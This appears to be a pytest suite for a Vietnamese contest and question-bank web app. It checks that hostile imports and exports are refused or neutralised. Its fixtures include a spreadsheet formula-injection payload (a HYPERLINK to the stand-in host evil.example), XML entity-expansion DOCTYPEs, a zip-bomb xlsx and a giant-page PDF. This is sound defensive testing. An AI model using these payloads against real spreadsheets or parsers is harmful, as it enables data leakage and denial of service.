"""Hostile files on every import path (web pages and commands, questions and paper sheets):
a file-level refusal or row errors in Vietnamese, never a 500, nothing written; and exports
that no spreadsheet runs as formulas."""

import csv
import io
import time
import zipfile

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from accounts.roles import ORGANIZERS_GROUP
from contest.models import ContestMembership, PaperEntry
from contest.paper.importing import paper_import
from core.models import PendingUpload
from core.spreadsheets import formula_safe
from core.tabular import read_table
from questions.exporters import export_bank
from questions.importers import FileRejected, importer_for
from questions.models import Bank, Question, QuestionVersion
from questions.services import question_save, questions_import
from tests.contest.test_ranking import ALL_RIGHT, make_contest
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
PAPER_HEADER = "sheet_no,full_name,phone,answers,prediction,postmark_date,received_at"
BANK_HEADER = "code,topic,text,option_a,option_b,correct,points"


def paper_csv(*rows: str) -> bytes:
    return ("\n".join([PAPER_HEADER, *rows]) + "\n").encode()


@pytest.fixture
def contest():
    return make_contest()


@pytest.fixture
def bank():
    return Bank.objects.create(slug="kho", title="Kho")


def bank_import(bank, data: bytes, fmt: str, *, partial=False):
    parsed = importer_for(format=fmt).parse(data)
    return questions_import(bank=bank, parsed=parsed, partial=partial)


# --- paper sheets -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (f"A-1,An,0905000001,{ALL_RIGHT},²,2022-06-01,", "prediction: “²” không phải số nguyên"),
        (f"A-1,An,0905000001,{ALL_RIGHT},{'9' * 30},2022-06-01,", "tối đa 12 chữ số"),
        (f"A-1,An,09٠٥١٢٣٤٥٦,{ALL_RIGHT},5,2022-06-01,", "phone:"),
        (f"A-1,An,0905000001,{ALL_RIGHT},5,2022-06-01,2022-06-03 09:00+99:99", "received_at:"),
        (f"A-1,An,0905000001,{ALL_RIGHT},5,2022-06-01,0001-01-01 00:00", "received_at:"),
        (f"A-1,An,0905000001,{ALL_RIGHT},5,0001-01-01,", "postmark_date:"),
        (f"A-1,{'x' * 131_072},0905000001,{ALL_RIGHT},5,2022-06-01,", "full_name: ô dài 131.072"),
    ],
)
def test_a_hostile_paper_row_is_a_row_error_and_nothing_is_written(contest, row, message):
    report = paper_import(contest=contest, data=paper_csv(row), kind="csv")
    assert report.rejected and any(message in e for e in report.errors), report.errors
    assert report.errors[0].startswith("row 2: ")
    assert not PaperEntry.objects.exists()


def test_a_128_kb_cell_through_the_upload_page_is_a_row_error(client, contest):
    clerk = UserFactory()
    ContestMembership.objects.create(contest=contest, user=clerk, role="clerk")
    client.force_login(clerk)
    data = paper_csv(f"A-1,An,0905000001,{ALL_RIGHT},5,2022-06-01,{'y' * 128 * 1024}")
    response = client.post(
        reverse("contest:paper_upload", args=[contest.slug]),
        {"file": SimpleUploadedFile("s.csv", data)},
    )
    assert response.status_code == 200
    assert "Dòng 2, cột Nhận lúc (received_at): ô dài" in response.content.decode()
    assert not PaperEntry.objects.exists()


def test_columns_the_format_does_not_have_are_not_read(contest):
    data = (
        PAPER_HEADER + ",junk\n" + f"A-1,An,0905000001,{ALL_RIGHT},5,2022-06-01,,{'z' * 9000}\n"
    ).encode()
    report = paper_import(contest=contest, data=data, kind="csv", dry_run=True)
    assert report.errors == [] and report.created == 1
    headers, rows = read_table(data, "csv", columns={"sheet_no"})
    assert list(rows) == [(2, {"sheet_no": "A-1"})]


def _xlsx_with_rows(count: int) -> bytes:
    """A real xlsx whose first sheet has ``count`` data rows (written as raw sheet XML: fast)."""
    book = Workbook()
    book.active.append(["sheet_no", "answers", "postmark_date", "prediction"])
    buffer = io.BytesIO()
    book.save(buffer)
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>S{n}</t></is></c></row>'
        for n in range(2, count + 2)
    )
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(
                    b"</row></sheetData>", b"</row>" + rows.encode() + b"</sheetData>"
                )
                data = data.replace(
                    b"<sheetData/>", b"<sheetData>" + rows.encode() + b"</sheetData>"
                )
            target.writestr(item, data)
    return out.getvalue()


def test_an_xlsx_with_too_many_rows_is_refused_at_the_cap_in_streaming_mode():
    data = _xlsx_with_rows(5_000)
    headers, rows = read_table(data, "xlsx", max_rows=1_000)
    started = time.monotonic()
    with pytest.raises(FileRejected, match="hơn 1.000 dòng"):
        for _row in rows:
            pass
    assert time.monotonic() - started < 10


def test_the_row_caps_of_the_importers_are_the_documented_ones(contest):
    from core.tabular import MAX_ROWS
    from questions.importers.base import MAX_QUESTIONS

    assert (MAX_ROWS, MAX_QUESTIONS) == (200_000, 50_000)
    data = _xlsx_with_rows(3)  # the stated dimension (A1:D1) hides these rows from openpyxl
    report = paper_import(contest=contest, data=data, kind="xlsx", dry_run=True)
    assert [e.split(":")[0] for e in report.errors] == [
        "row 2",
        "row 2",
        "row 3",
        "row 3",
        "row 4",
        "row 4",
    ]


def test_an_xlsx_that_unpacks_to_a_bomb_is_refused_before_reading(contest):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<" + b" " * (201 * 1024 * 1024))
    with pytest.raises(FileRejected, match="giải nén ra 201 MB"):
        paper_import(contest=contest, data=out.getvalue(), kind="xlsx")


@pytest.mark.parametrize(
    ("data", "kind", "message"),
    [
        (b"%PDF-1.4 not a spreadsheet", "xlsx", "không phải bảng tính Excel"),
        (b"PK\x03\x04 broken zip", "xlsx", "không phải bảng tính Excel"),
        ("sheet_no\n".encode("utf-16"), "csv", "không phải mã UTF-8"),
        (b"sheet_no,answers\x00\n", "csv", "ký tự nhị phân"),
        (b"", "csv", "tệp trống"),
        (("," * 150 + "\n").encode().replace(b",", b"c,"), "csv", "tối đa 100 cột"),
    ],
)
def test_a_file_that_lies_about_its_type_is_refused_as_a_whole(contest, data, kind, message):
    with pytest.raises(FileRejected, match=message):
        paper_import(contest=contest, data=data, kind=kind)


def test_the_paper_command_refuses_a_file_over_the_byte_cap(contest, tmp_path, capsys):
    path = tmp_path / "big.csv"
    with path.open("wb") as handle:
        handle.write(PAPER_HEADER.encode() + b"\n")
        handle.truncate(21 * 1024 * 1024)
    with pytest.raises(CommandError):
        call_command("import_paper_entries", contest.slug, str(path))
    assert "row 1: file: tệp quá lớn" in capsys.readouterr().err
    assert not PaperEntry.objects.exists()


# --- question banks -------------------------------------------------------------------------


def test_a_utf16_doctype_in_moodle_xml_is_refused(bank):
    xml = (
        '<?xml version="1.0" encoding="UTF-16"?>\n'
        '<!DOCTYPE quiz [<!ENTITY boom "boom">]>\n<quiz><question type="truefalse">'
        "<name><text>&boom;</text></name></question></quiz>"
    ).encode("utf-16")
    assert b"<!DOCTYPE" not in xml  # the old byte check saw nothing
    with pytest.raises(FileRejected, match="DOCTYPE/ENTITY"):
        importer_for(format="moodlexml").parse(xml)


def _moodle(answer_a='fraction="100"', grade="1") -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<quiz><question type="multichoice"><name><text>Q</text></name>
<questiontext format="html"><text>Thủ tục nào?</text></questiontext>
<defaultgrade>{grade}</defaultgrade><single>true</single>
<answer {answer_a}><text>Một</text></answer><answer fraction="0"><text>Hai</text></answer>
</question></quiz>""".encode()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (_moodle(answer_a='fraction="abc"'), "fraction=“abc”"),
        (_moodle(answer_a='fraction="nan"'), "fraction=“nan”"),
        (_moodle(answer_a='fraction="1e999"'), "fraction=“1e999”"),
        (_moodle(grade="-1"), "defaultgrade: điểm không được âm"),
        (_moodle(grade="inf"), "defaultgrade: điểm “inf” không phải là số hữu hạn"),
        (_moodle(grade="NaN"), "defaultgrade: điểm “NaN” không phải là số hữu hạn"),
        (_moodle(grade="1e9"), "defaultgrade: điểm quá lớn"),
        (_moodle(grade="0.001"), "hai chữ số thập phân"),
    ],
)
def test_hostile_moodle_numbers_are_row_errors_and_the_bank_page_still_opens(
    client, bank, data, message
):
    report = bank_import(bank, data, "moodlexml", partial=True)
    assert any(message in e for e in report.errors), report.errors
    assert not Question.objects.exists()
    editor = UserFactory()
    editor.groups.add(Group.objects.get_or_create(name=ORGANIZERS_GROUP)[0])
    bank.owners.add(editor)
    client.force_login(editor)
    assert client.get(reverse("questions:question_list", args=[bank.slug])).status_code == 200


@pytest.mark.parametrize("points", ["NaN", "Infinity", "-Infinity", "sNaN", "1e999999", "-0.5"])
def test_hostile_points_in_a_spreadsheet_are_row_errors(bank, points):
    data = f"{BANK_HEADER}\nQ1,Chung,Câu?,Một,Hai,A,{points}\n".encode()
    report = bank_import(bank, data, "csv", partial=True)
    assert report.errors and report.errors[0].startswith("row 2: points: ")
    assert not QuestionVersion.objects.exists()


def test_a_gift_title_longer_than_a_code_is_an_error_not_a_cut_or_a_database_error(bank):
    long_title = "T" * 65
    data = f"::{long_title}:: Câu hỏi? {{=Một ~Hai}}\n\n::T2:: Câu hai? {{=Một ~Hai}}\n".encode()
    report = bank_import(bank, data, "gift", partial=True)
    assert report.errors == ["line 1: code: mã/tên câu hỏi dài 65 ký tự, tối đa 64"]
    assert list(Question.objects.values_list("code", flat=True)) == ["T2"]


def test_an_aiken_question_with_options_out_of_order_is_refused_never_imported(bank):
    data = (
        "Thủ tục nào đúng?\nA. Một\nC. Ba\nB. Hai\nANSWER: B\n\nCâu hai?\nA. X\nB. Y\nANSWER: A\n"
    )
    report = bank_import(bank, data.encode(), "aiken", partial=True)
    assert any("không đúng thứ tự" in e for e in report.errors)
    assert Question.objects.count() == 1
    assert QuestionVersion.objects.get().text == "Câu hai?"


def test_a_question_cell_over_the_sane_length_is_a_row_error(bank):
    data = f"{BANK_HEADER}\nQ1,Chung,{'x' * 6000},Một,Hai,A,1\n".encode()
    report = bank_import(bank, data, "csv", partial=True)
    assert report.errors == ["row 2: text: ô dài 6.000 ký tự, tối đa 5.000"]
    assert not Question.objects.exists()


def test_the_questions_command_refuses_a_file_over_the_byte_cap(tmp_path, capsys):
    path = tmp_path / "big.gift"
    with path.open("wb") as handle:
        handle.truncate(21 * 1024 * 1024)
    with pytest.raises(CommandError):
        call_command("import_questions", str(path), "--bank", "kho")
    assert "row 1: file: tệp quá lớn" in capsys.readouterr().err
    assert not Bank.objects.exists()


def test_a_bank_upload_that_fails_in_the_background_ends_failed_with_the_reason(client, bank):
    editor = UserFactory()
    editor.groups.add(Group.objects.get_or_create(name=ORGANIZERS_GROUP)[0])
    bank.owners.add(editor)
    client.force_login(editor)
    url = reverse("questions:bank_import", args=[bank.slug])
    client.post(url, {"file": SimpleUploadedFile("q.gift", b"::A:: Hai? {=X ~Y}\n")})
    upload = PendingUpload.objects.get()
    upload.file.storage.delete(upload.file.name)
    client.post(url, {"confirm": "1", "upload": str(upload.pk)})
    from core.models import BackgroundJob

    job = BackgroundJob.objects.get()
    assert job.status == "failed" and "FileNotFoundError" in job.message
    assert not Question.objects.exists()


# --- units ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("code,name,kind,headcount\nxa-a,Xã A,xã,²\n", "row 2: headcount:"),
        ("code,name,kind,headcount\nxa-a,Xã A,xã,١٠٠\n", "row 2: headcount:"),
        ("code,name,kind\nxa-a,Xã A,xã,extra,cells\nxa-b,Xã B,nope\n", "row 3: kind:"),
        (f"code,name,kind\nxa-a,{'x' * 200_000},xã\n", "row 2: "),
    ],
)
def test_a_hostile_unit_list_is_refused_with_row_errors(text, message):
    from accounts.models import Unit
    from accounts.services import RowErrors, units_import_csv

    with pytest.raises(RowErrors) as refused:
        units_import_csv(text=text)
    assert any(e.startswith(message) for e in refused.value.errors), refused.value.errors
    assert not Unit.objects.exists()


# --- contest definitions ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "override",
    [
        {"title": "x" * 100_000},
        {"max_attempts": float("nan")},
        {"attempt_time_limit_minutes": float("inf")},
        {"max_attempts": 10**30},
        {"opens_at": "0001-01-01T00:00"},
        {"closes_at": "2022-06-09T16:00+99:99"},
    ],
)
def test_a_hostile_contest_definition_is_refused_with_messages(tmp_path, capsys, override):
    import json

    from contest.models import Contest
    from tests.factories import contest_json, make_bank_with_topics

    make_bank_with_topics()
    path = tmp_path / "contest.json"
    path.write_text(json.dumps(contest_json(**override)), encoding="utf-8")
    with pytest.raises(CommandError, match="không ghi gì"):
        call_command("import_contest", str(path))
    assert capsys.readouterr().err.strip()
    assert not Contest.objects.exists()


# --- exports ------------------------------------------------------------------------------


EVIL = '=HYPERLINK("http://evil.example/?x","Xem giải")'


@pytest.mark.parametrize("value", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_safe_prefixes_every_dangerous_start(value):
    assert formula_safe(value) == "'" + value
    assert formula_safe("Nguyễn =An") == "Nguyễn =An" and formula_safe(-5) == -5


def test_bank_exports_neutralise_formulas_and_import_back_unchanged(bank):
    question_save(
        bank=bank,
        code="Q1",
        topic_name="@chủ đề",
        kind="single",
        text=EVIL,
        options=["-1", "+2"],
        correct="A",
    )
    rows = list(csv.reader(io.StringIO(export_bank(bank, "x.csv").decode("utf-8-sig"))))
    assert rows[1][:5] == ["Q1", "'@chủ đề", "'" + EVIL, "'-1", "'+2"]
    sheet = load_workbook(io.BytesIO(export_bank(bank, "x.xlsx"))).active
    assert sheet["C2"].value == "'" + EVIL and sheet["C2"].data_type == "s"
    again = Bank.objects.create(slug="lai", title="Lại")
    for fmt in ("csv", "xlsx"):
        report = bank_import(again, export_bank(bank, f"x.{fmt}"), fmt)
        assert report.errors == []
        version = Question.objects.get(bank=again).current_version
        assert (version.text, version.options) == (EVIL, ["-1", "+2"])


def test_results_exports_neutralise_a_participant_named_like_a_formula(contest):
    from contest.results.exports import results_csv, results_xlsx
    from contest.results.ranking import contest_rank

    data = paper_csv(
        f'A-1,"{EVIL.replace(chr(34), chr(34) * 2)}",0905000001,{ALL_RIGHT},5,2022-06-01,'
    )
    assert paper_import(contest=contest, data=data, kind="csv").errors == []
    results = contest_rank(contest)
    text = results_csv(results).decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in text and f",{EVIL}" not in text.replace('""', '"')
    sheet = load_workbook(io.BytesIO(results_xlsx(results))).worksheets[0]
    names = [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == ["'" + EVIL]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


# --- hostile xlsx parts (attacker review) -------------------------------------------------


def _xlsx_with_parts(*, sheet: bytes | None = None, strings: bytes | None = None) -> bytes:
    """A real xlsx whose worksheet part is ``sheet`` (when given) and which carries the
    sharedStrings part ``strings`` (when given; the header cell is then string 0)."""
    book = Workbook()
    book.active.append(["sheet_no"])
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    if strings is not None and sheet is None:
        sheet = _sheet_part('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml" and sheet is not None:
                data = sheet
            if strings is not None and item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
                    b"</Types>",
                )
            if strings is not None and item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/sharedStrings" '
                    b'Target="sharedStrings.xml"/></Relationships>',
                )
            target.writestr(item, data)
        if strings is not None:
            target.writestr("xl/sharedStrings.xml", strings)
    return out.getvalue()


MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _strings_part(count: int) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN_NS}">'
        + "<si><t>x</t></si>" * count
        + "</sst>"
    ).encode()


def _sheet_part(rows: str, encoding: str = "UTF-8", doctype: str = "") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>{doctype}'
        f'<worksheet xmlns="{MAIN_NS}"><sheetData>{rows}</sheetData></worksheet>'
    )
    return text.encode(encoding.lower())


HEADER_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>sheet_no</t></is></c></row>'


def test_an_xlsx_with_too_many_shared_strings_is_refused_while_opening(monkeypatch):
    import core.xlsx_rows

    monkeypatch.setattr(core.xlsx_rows, "MAX_SHARED_STRINGS", 1_000)
    data = _xlsx_with_parts(strings=_strings_part(1_001))
    with pytest.raises(FileRejected, match="chuỗi văn bản dùng chung"):
        read_table(data, "xlsx")
    headers, rows = read_table(_xlsx_with_parts(strings=_strings_part(1_000)), "xlsx")
    assert headers == ["x"]  # at the cap the file reads (the header cell is string 0)


def test_opening_an_xlsx_is_under_the_reading_time_limit(monkeypatch):
    import core.tabular

    monkeypatch.setattr(core.tabular, "MAX_SECONDS", 0.0)
    data = _xlsx_with_parts(strings=_strings_part(20_000))
    with pytest.raises(FileRejected, match="mở tệp Excel quá 0 giây"):
        read_table(data, "xlsx")


ENTITY_DOCTYPE = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'


@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16"])
def test_an_xlsx_worksheet_with_a_doctype_is_refused_in_any_encoding(contest, encoding):
    rows = HEADER_ROW + '<row r="2"><c r="A2" t="inlineStr"><is><t>&b;</t></is></c></row>'
    data = _xlsx_with_parts(sheet=_sheet_part(rows, encoding, ENTITY_DOCTYPE))
    with pytest.raises(FileRejected, match="không phải bảng tính Excel"):
        paper_import(contest=contest, data=data, kind="xlsx")
    assert not PaperEntry.objects.exists()


@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16"])
def test_an_xlsx_shared_strings_part_with_a_doctype_is_refused_in_any_encoding(encoding):
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        '<!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">]>'
        f'<sst xmlns="{MAIN_NS}"><si><t>&a;</t></si></sst>'
    )
    data = _xlsx_with_parts(strings=text.encode(encoding.lower()))
    with pytest.raises(FileRejected, match="không phải bảng tính Excel"):
        read_table(data, "xlsx")


@pytest.mark.parametrize("reference", ["inf", "1e999", "-1", "2.5", "99999999999999999999"])
def test_an_xlsx_row_number_that_is_not_an_integer_is_refused(reference):
    rows = HEADER_ROW + f'<row r="{reference}"><c t="inlineStr"><is><t>A-1</t></is></c></row>'
    headers, values = read_table(_xlsx_with_parts(sheet=_sheet_part(rows)), "xlsx")
    with pytest.raises(FileRejected, match="không phải bảng tính Excel"):
        list(values)


# --- hostile scans ------------------------------------------------------------------------


def _pdf(*sizes: tuple[float, float]) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for width, height in sizes:
        writer.add_blank_page(width=width, height=height)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


A4 = (595, 842)


def test_a_pdf_page_claiming_a_huge_size_is_rejected_with_a_reason_not_rendered(contest):
    from contest.paper.scanning import input_expand, scan_batch

    data = _pdf(A4, (14400, 14400))  # 200 × 200 inches: 1.6 GB of pixels at 150 dpi
    assert len(data) < 2_000
    items = input_expand("lo.pdf", data)
    assert [name for name, _data in items] == ["lo-trang-1.png", "lo-trang-2.png"]
    assert items[0][1][:4] == b"\x89PNG" and items[1][1] == b""
    results = scan_batch(contest=contest, items=items, dry_run=True)
    assert results[1].reading.status == "rejected"
    assert "Trang PDF này quá lớn" in results[1].reading.reason
    assert "khổ A4" in results[1].reading.reason


def test_a_pdf_with_more_pages_than_the_cap_reads_the_first_and_says_so(contest, monkeypatch):
    import contest.paper.scanning as scanning

    monkeypatch.setattr(scanning, "MAX_PDF_PAGES", 2)
    items = scanning.input_expand("lo.pdf", _pdf(A4, A4, A4, A4))
    assert [name for name, _data in items][:2] == ["lo-trang-1.png", "lo-trang-2.png"]
    assert len(items) == 3 and items[2][1] == b""
    results = scanning.scan_batch(contest=contest, items=items, dry_run=True)
    assert results[2].reading.status == "rejected"
    assert "Tệp PDF có 4 trang; chỉ đọc 2 trang đầu" in results[2].reading.reason


def test_an_xlsx_row_inside_a_row_is_refused():
    rows = HEADER_ROW + '<row r="2"><row r="3"><c t="inlineStr"><is><t>A</t></is></c></row></row>'
    with pytest.raises(FileRejected, match="không phải bảng tính Excel"):
        _headers, values = read_table(_xlsx_with_parts(sheet=_sheet_part(rows)), "xlsx")
        list(values)
